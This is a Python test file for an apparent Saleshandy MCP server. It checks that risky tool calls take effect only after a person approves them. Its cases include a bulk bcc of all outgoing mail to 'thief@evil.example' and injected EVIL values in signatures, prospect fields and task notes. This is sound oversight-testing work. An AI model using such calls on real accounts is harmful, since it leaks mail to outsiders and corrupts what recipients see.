"""Calls that once reached people unasked: each does harm when somebody has agreed, and none before anybody has."""

from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from saleshandy_mcp.api.operation import Operation
from saleshandy_mcp.api.resources.email_accounts import BulkUpdateEmailAccounts
from saleshandy_mcp.api.resources.leads import AddLeadsToSequence
from saleshandy_mcp.api.resources.sequences import AddSequenceEmailAccounts, RemoveSequenceEmailAccounts
from saleshandy_mcp.api.resources.tasks import SkipTask, UpdateTaskNote
from saleshandy_mcp.core.action import Action
from saleshandy_mcp.core.context import Context
from saleshandy_mcp.features.imports.import_prospects import ImportProspects
from saleshandy_mcp.features.prospects.update_prospects import UpdateProspects
from saleshandy_mcp.features.senders.add_email_accounts import AddEmailAccounts
from saleshandy_mcp.features.tasks.update_tasks import UpdateTasks
from saleshandy_mcp.policy.effects import Gate, judge
from saleshandy_mcp.sandbox import Sandbox
from saleshandy_mcp.server.tools import operation_tool
from tests.gate.calls import EVIL, PAUSED
from tests.gate.test_unasked_calls import ALL, NONE, trial, unasked
from tests.gate.witness import Harm, harm
from tests.gate.worlds import RUNNING, sequence, world

Call = Callable[[Sandbox], Action[Any]]


def senders(box: Sandbox, *, attached: bool) -> list[str]:
    there = sequence(box)["emailAccountIds"]
    active = [id_ for id_, row in box.world.email_accounts.items() if row["status"] == 1]
    return [id_ for id_ in active if (id_ in there) == attached]


def people(box: Sandbox, number: int) -> list[str]:
    """Addresses of people who still have mails of the running sequence before them."""
    world = box.world
    waiting = [
        id_ for id_ in world.enrolments[sequence(box)["id"]] if world.status_of(sequence(box)["id"], id_) == "active"
    ]
    return [world.prospects[id_]["email"] for id_ in waiting[-number:]]


def task(box: Sandbox) -> str:
    """A task of the running sequence that is done, so that the next mail may follow: made by a step for it."""
    world = box.world
    return next(
        id_
        for id_, row in world.tasks.items()
        if row["sequenceId"] and world.sequences[row["sequenceId"]]["active"] and not row["completedAt"]
    )


def open_task(box: Sandbox) -> str:
    there = sequence(box)["id"]
    return next(id_ for id_, row in box.world.tasks.items() if row["sequenceId"] == there and not row["completedAt"])


def lead(box: Sandbox) -> int:
    """A lead who is in the running sequence already."""
    found = next(iter(box.world.leads.values()))
    elsewhere = {box.world.prospects[it]["email"] for it in box.world.enrolments[sequence(box, PAUSED)["id"]]}
    inside = [it for it in people(box, 40) if it not in elsewhere]
    found |= {"work_email": inside[0], "revealed": ["work_email"], "verification": "valid"}
    return found["id"]


def first_step(box: Sandbox, title: str) -> str:
    return next(id_ for id_, row in box.world.steps.items() if row["sequenceId"] == sequence(box, title)["id"])


HOLES: dict[str, tuple[str, str, Call]] = {
    "a signature for all mails": (
        "as it is",
        "reached",
        lambda box: BulkUpdateEmailAccounts(
            email_account_ids=senders(box, attached=True), sender_first_name="Ada", signature_html=EVIL
        ),
    ),
    "a bcc for all mails": (
        "as it is",
        "reached",
        lambda box: BulkUpdateEmailAccounts(
            email_account_ids=senders(box, attached=True), sender_first_name="Ada", bcc="thief@evil.example"
        ),
    ),
    "a sender for a sequence that has none": (
        "without sender",
        "reached",
        lambda box: AddEmailAccounts(sequence=RUNNING, accounts=senders(box, attached=False)[:1]),
    ),
    "the same by the bare operation": (
        "without sender",
        "reached",
        lambda box: AddSequenceEmailAccounts(
            sequence_id=sequence(box)["id"], email_account_ids=senders(box, attached=False)[:1]
        ),
    ),
    "detaching a sender": (
        "as it is",
        "reached",
        lambda box: RemoveSequenceEmailAccounts(
            sequence_id=sequence(box)["id"], email_account_ids=senders(box, attached=True)[:1]
        ),
    ),
    "an account-wide import that overwrites": (
        "as it is",
        "reached",
        lambda box: ImportProspects(
            rows=[{"Email": it, "First Name": EVIL, "Company": EVIL} for it in people(box, 40)],
            conflict_action="overwrite",
        ),
    ),
    "values of people": (
        "as it is",
        "reached",
        lambda box: UpdateProspects(prospects=people(box, 40)[:8], fields={"First Name": EVIL, "Company": EVIL}),
    ),
    "a tag that a subsequence waits for": (
        "subsequences wait",
        "reached",
        lambda box: UpdateProspects(prospects=people(box, 8), add_tags=["warm"]),
    ),
    "an outcome that a subsequence waits for": (
        "subsequences wait",
        "reached",
        lambda box: UpdateProspects(prospects=people(box, 8), outcome="Interested", sequence=RUNNING),
    ),
    "a tag that a lead gets, who is stored and in the running sequence": (
        "subsequences wait",
        "reached",
        lambda box: AddLeadsToSequence(
            lead_ids=[lead(box)],
            sequence_id=sequence(box, PAUSED)["id"],
            step_id=first_step(box, PAUSED),
            new_tags=["warm"],
        ),
    ),
    "a tag that somebody new gets, in a paused sequence": (
        "paused, subsequences wait",
        "reached",
        lambda _: ImportProspects(
            sequence=RUNNING,
            rows=[{"Email": "new.person@harbour.example.com"}],
            tags=["warm"],
            conflict_action="noUpdate",
            verify=False,
        ),
    ),
    "somebody who goes on, in a paused sequence": (
        "paused, subsequences wait",
        "reached",
        lambda box: UpdateProspects(prospects=people(box, 3), status="active", sequence=RUNNING),
    ),
    "a task of a paused sequence": (
        "paused, subsequences wait",
        "reached",
        lambda box: UpdateTasks(tasks=[open_task(box)], action="skip"),
    ),
    "a task that is skipped": (
        "as it is",
        "reached",
        lambda box: UpdateTasks(tasks=[task(box)], action="skip"),
    ),
    "the same by the bare operation, skipped": ("as it is", "reached", lambda box: SkipTask(task_id=task(box))),
    "the instruction of a task": (
        "as it is",
        "lost",
        lambda box: UpdateTaskNote(
            task_id=next(id_ for id_, row in box.world.tasks.items() if row["taskNote"]), note=EVIL
        ),
    ),
}


async def agreed(context: Context, action: Action[Any]) -> None:
    """Carry a call out after a person's yes."""
    gate = Gate(context.api)
    context = replace(context, api=gate)
    if isinstance(action, Operation):
        prepared = await operation_tool.prepare(action, context)
    else:
        prepared = await action.prepare(context)
    assert judge(prepared, ALL), "nobody would be asked"
    gate.open(prepared.effects)
    await prepared.execute()


async def harm_of(name: str, *, asked: bool) -> Harm:
    state, _, call = HOLES[name]
    async with trial(state) as (box, context):
        await (agreed if asked else unasked)(context, call(box))
        twin = world(state)
        twin.clock.advance(box.clock.seconds())
        return harm(twin, box)


@pytest.mark.parametrize("name", HOLES)
async def test_it_does_harm_once_somebody_has_agreed(name: str) -> None:
    kind = HOLES[name][1]
    assert getattr(await harm_of(name, asked=True), kind)


@pytest.mark.parametrize("name", HOLES)
async def test_it_does_nothing_before_anybody_has(name: str) -> None:
    assert await harm_of(name, asked=False) == NONE
